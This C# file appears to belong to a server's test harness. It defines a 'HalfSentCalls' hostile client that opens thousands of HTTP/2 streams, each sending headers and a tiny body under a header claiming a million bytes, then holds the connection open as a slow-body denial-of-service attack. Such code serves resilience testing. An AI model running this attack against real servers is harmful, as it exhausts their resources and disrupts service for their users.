namespace MetaStore.Testing.HostileClient;

/// <summary>Calls that send headers and part of the body, and then stop.</summary>
public static class HalfSentCalls
{
    private const int CallsPerWrite = 100;

    /// <summary>Opens a connection with such calls and returns it open.</summary>
    /// <param name="attack">The attack.</param>
    /// <param name="calls">Number of calls.</param>
    /// <param name="path">Method, or null for a random one.</param>
    /// <param name="bodyBytes">Bytes of the message that are sent; its header claims 1,000,000.</param>
    public static async Task<RawConnection?> OpenAsync(Attack attack, int calls, string? path = null, int bodyBytes = 5)
    {
        var connection = await RawConnection.TryOpenHttp2Async(attack.Target);
        if (connection is null)
        {
            return null;
        }

        var body = Frames.Message(0, 1_000_000, new byte[bodyBytes]);
        for (var sent = 0; sent < calls;)
        {
            var batch = new List<byte>();
            for (var i = 0; i < CallsPerWrite && sent < calls; i++, sent++)
            {
                var stream = (2 * sent) + 1;
                batch.AddRange(Frames.Request(stream, path ?? attack.AnyPath()));
                batch.AddRange(Frames.Of(Frames.Data, 0, stream, body));
            }

            if (!await connection.TrySendAsync(batch.ToArray(), attack.End))
            {
                break;
            }
        }

        return connection;
    }

    /// <summary>Opens such calls and holds them until the attack ends.</summary>
    public static async Task RunAsync(Attack attack)
    {
        using var connection = await OpenAsync(attack, attack.Random.Next(1, 5000), bodyBytes: attack.Random.Next(1000));
        if (connection is not null)
        {
            await attack.HoldAsync(connection);
        }
    }
}
